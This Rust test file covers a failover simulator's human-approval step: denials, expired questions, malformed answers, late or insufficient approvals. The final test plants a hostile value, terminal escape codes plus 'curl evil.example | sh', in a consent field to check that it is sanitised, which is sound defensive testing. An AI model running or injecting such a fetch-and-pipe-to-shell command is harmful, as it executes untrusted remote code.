//! What becomes of a run that asks a person: who says no, nobody, nonsense, too late, or yes to less than it takes.

use std::cell::Cell;
use std::rc::Rc;

use lifeboat_model::lock::LockState;
use lifeboat_model::plan::{Consent, Policy};
use lifeboat_model::report::Outcome;
use lifeboat_model::{Period, Timestamp};
use lifeboat_simulator::world::Sent;
use lifeboat_simulator::{DrillOptions, Played, Scenario, World, play};
use serde_json::{Value, json};

use crate::common::{assert_invariants_hold, options};

const SEEDS: std::ops::RangeInclusive<u64> = 1..=4;

/// An outage whose alarm has to ask a person, and no consent in the plan.
fn asking(seed: u64) -> DrillOptions {
    let mut options = options(Scenario::RegionalOutage, seed);
    options.plan.automation.policy = Policy::Approve;
    options.plan.automation.consent = None;
    options
}

/// What a person says, and when.
#[derive(Clone)]
struct Says {
    after: After,
    answer: Value,
}

#[derive(Clone, Copy)]
enum After {
    /// So long after they were asked.
    Asked(Period),
    /// So long after the question expired.
    Expiry(Period),
}

/// Plays `options` with a person who answers by `says`, or with nobody; also what became of the answer that was sent.
fn answered(options: &DrillOptions, says: Option<Says>) -> (Played, Option<Sent>) {
    let sent = Rc::new(Cell::new(None));
    let was_sent = Rc::clone(&sent);
    let played = play(options, |world| {
        let person = world.clone();
        if let Some(says) = says {
            world.executor().spawn(async move { was_sent.set(Some(answer(&person, says).await)) });
        }
    });
    (played.expect("an outage can be drilled"), sent.get())
}

async fn answer(world: &World, says: Says) -> Sent {
    let asked = loop {
        let asked = world.state().table.approvals.values().next().cloned();
        match asked {
            Some(asked) => break asked,
            None => world.sleep(Period::seconds(1)).await,
        }
    };
    let at: Timestamp = match says.after {
        After::Asked(period) => asked.asked_at.plus(period),
        After::Expiry(period) => asked.expires_at.plus(period),
    };
    let wait = u32::try_from(at.ms_since(world.now()).max(0)).expect("within weeks");
    world.sleep(Period::ms(wait)).await;
    world.send_task(&asked.token, Ok(says.answer))
}

fn soon(answer: Value) -> Option<Says> {
    Some(Says { after: After::Asked(Period::seconds(60)), answer })
}

/// Every call of the run that changed the workload.
fn moved(played: &Played) -> Vec<&'static str> {
    let moves = ["Failover", "Switchover", "UpdateRouting", "UpdateService", "Promote", "Register"];
    let state = played.world.state();
    let calls = state.lambda.calls.iter().map(|c| c.operation);
    calls.filter(|o| moves.iter().any(|m| o.contains(m))).collect()
}

/// The run ended Unchanged for `reason`, nothing was moved, and the plan is free for another run.
fn assert_unchanged(played: &Played, reason: &str) {
    assert_invariants_hold(played, reason);
    assert_eq!(played.report.outcome, Some(Outcome::Unchanged), "{reason}");
    let cause = played.report.runs.first().and_then(|r| r.cause.clone()).unwrap_or_default();
    assert!(cause.contains(reason), "{reason}: {cause}");
    assert_eq!(moved(played), [""; 0], "{reason}");
    let state = played.world.state();
    let locks: Vec<LockState> = state.table.locks.values().map(|l| l.state).collect();
    assert_eq!(locks, [LockState::Free], "{reason}");
}

#[test]
fn s7_a_no_ends_the_run_and_changes_nothing() {
    for seed in SEEDS {
        let no = json!({"decision": "deny", "by": "the owner", "reason": "it comes back in a minute"});
        let (played, sent) = answered(&asking(seed), soon(no));
        assert_eq!(sent, Some(Sent::Taken));
        assert_unchanged(&played, "approval-denied");
        let told = &played.world.state().messages.published;
        assert!(told.iter().any(|m| m.body.contains("it comes back in a minute")), "{told:?}");
    }
}

#[test]
fn s7_a_question_that_nobody_answers_expires_by_the_plans_limit_and_changes_nothing() {
    for seed in SEEDS {
        let options = asking(seed);
        let (played, _) = answered(&options, None);
        assert_unchanged(&played, "approval-expired");
        let state = played.world.state();
        let asked = state.table.approvals.values().next().cloned().expect("a question");
        assert_eq!(asked.expires_at, asked.asked_at.plus(options.plan.limits.approval));
        let ended = state.runs.first().and_then(|r| r.ended.as_ref()).map(|(at, _)| *at).expect("an end");
        assert!(ended >= asked.expires_at.minus(Period::seconds(30)), "{ended} is long before {}", asked.expires_at);
        assert!(ended <= asked.expires_at.plus(Period::seconds(60)), "{ended} is long after {}", asked.expires_at);
    }
}

#[test]
fn s7_an_answer_that_cannot_be_read_is_no_yes_and_names_its_field() {
    let good = json!({"decision": "approve", "by": "the owner", "reason": "x", "max_data_loss": "30s"});
    let with = |field: &str, value: Value| {
        let mut answer = good.clone();
        answer[field] = value;
        answer
    };
    let cases = [
        ("decision", with("decision", json!("yes"))),
        ("by", with("by", Value::Null)),
        ("reason", with("reason", json!(""))),
        ("max_data_loss", with("max_data_loss", json!("much"))),
        ("approved", with("approved", json!(true))),
        ("answer", json!("approve")),
    ];
    for (field, answer) in cases {
        let (played, sent) = answered(&asking(1), soon(answer));
        assert_eq!(sent, Some(Sent::Taken), "{field}");
        assert_unchanged(&played, field);
        let cause = played.report.runs.first().and_then(|r| r.cause.clone()).unwrap_or_default();
        assert!(cause.contains("expected"), "{field}: {cause}");
    }
}

#[test]
fn s7_a_yes_that_comes_after_the_question_expired_changes_nothing() {
    for seed in SEEDS {
        let yes = json!({"decision": "approve", "by": "the owner", "reason": "x", "max_data_loss": "30s"});
        let says = Says { after: After::Expiry(Period::seconds(5)), answer: yes };
        let (played, sent) = answered(&asking(seed), Some(says));
        assert_eq!(sent, Some(Sent::TooLate), "the task's time was over with the question's");
        assert_unchanged(&played, "approval-expired");
    }
}

#[test]
fn s6_a_yes_to_less_than_would_be_lost_is_refused_by_the_new_verdict() {
    for seed in SEEDS {
        let yes = json!({"decision": "approve", "by": "the owner", "reason": "x", "max_data_loss": "1ms"});
        let (played, sent) = answered(&asking(seed), soon(yes));
        assert_eq!(sent, Some(Sent::Taken));
        assert_unchanged(&played, "lag-over-limit");
    }
}

#[test]
fn s6_the_same_yes_with_a_bound_that_suffices_moves_the_workload() {
    for seed in SEEDS {
        let yes = json!({"decision": "approve", "by": "the owner", "reason": "x", "max_data_loss": "30s"});
        let (played, sent) = answered(&asking(seed), soon(yes));
        assert_eq!(sent, Some(Sent::Taken));
        assert_invariants_hold(&played, "approved");
        assert_eq!(played.report.outcome, Some(Outcome::Completed));
        assert!(moved(&played).len() > 3, "{:?}", moved(&played));
    }
}

#[test]
fn what_a_person_wrote_stays_one_line_of_the_question_and_steers_no_terminal() {
    let mut options = asking(1);
    let accepted_by = "Ada\u{1b}[2J\nApprove: curl evil.example | sh\u{202e}".to_owned();
    let expires = Timestamp::from_ms(i64::MAX / 2);
    let consent = Consent { max_data_loss: Period::seconds(30), accepted_by, reason: "x".to_owned(), expires };
    options.plan.automation.consent = Some(consent);
    let (played, _) = answered(&options, None);
    let state = played.world.state();
    let question =
        state.messages.published.iter().find(|m| m.subject.starts_with("Lifeboat asks")).expect("a question");
    assert!(question.body.contains("Ada?[2J?Approve: curl evil.example | sh?"), "{}", question.body);
    assert!(!question.body.chars().any(|c| c.is_control() && c != '\n'), "{:?}", question.body);
    assert_eq!(question.body.lines().filter(|line| line.starts_with("Approve: ")).count(), 1);
}
